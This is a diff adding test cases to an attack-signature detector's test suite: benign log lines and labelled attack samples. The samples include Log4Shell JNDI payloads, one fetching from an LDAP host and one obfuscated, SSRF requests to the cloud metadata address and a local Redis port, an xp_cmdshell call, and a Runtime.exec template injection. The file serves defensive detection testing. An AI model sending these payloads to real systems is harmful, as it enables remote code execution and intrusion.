@@ -57,6 +57,12 @@ describe('signs of attacks', () => {
     '2024-05-01 10:20:30 UTC [7] LOG:  duration: 10002.1 ms  execute <unnamed>: SELECT pg_sleep(10)',
     '2024-05-01T10:20:30.123456Z\t    8 Query\tSELECT a FROM x UNION ALL SELECT b FROM y',
     "Error: Cannot find module '../../../proc/hosts'",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a logger writes
+    'WARN StatusLogger Unable to look ${jndi:java:comp/env/logging/name} up',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a logger writes
+    'DEBUG StatusLogger fileName="${sys:log.dir:-${env:HOME}}/shop.log"',
+    '"GET /proxy?url=https://pictures.example.net/10.png HTTP/1.1" 200',
+    '"GET /oauth/authorize?redirect_uri=http%3A%2F%2Flocalhost%3A4100%2Fdone HTTP/1.1" 302',
     'ERROR in ../../src/self/app.ts(3,5): TS2304',
     '[2024/05/01 10:20:30,  1] ../../source3/auth/auth.c:100(check)\n  passwd of [kim] is wrong',
   ])('nor do traces, statements that a database logs, and files of a program: %s', (line) => {
@@ -65,6 +71,14 @@ describe('signs of attacks', () => {
 
   test.each([
     ['sql_injection', '"GET /item?q=statement:+x&id=7+UNION+ALL+SELECT+1,2 HTTP/1.1" 200'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send
+    ['log4shell', '"GET / HTTP/1.1" 200 "${jndi:java:comp/env/x}"'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send
+    ['log4shell', 'signed in as ${jndi:java:comp/env} ${jndi:ldap://192.0.2.7/a}'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send
+    ['log4shell', 'signed in as ${${sys:x:-${env:y:-j}}ndi:x}'],
+    ['server_side_request', '"GET /?next=http://169.254.169.254/latest/ HTTP/1.1" 200'],
+    ['server_side_request', '"GET /?target=http://127.0.0.1:6379/ HTTP/1.1" 200'],
     ['sql_injection', "LOG:  statement: EXEC xp_cmdshell 'whoami'"],
     ['path_traversal', '"GET /../../../app.php HTTP/1.1" 404 "not found"'],
     ['template_injection', '"GET /?x=T(java.lang.Runtime).getRuntime().exec(%22id%22) HTTP/1.1" 200'],
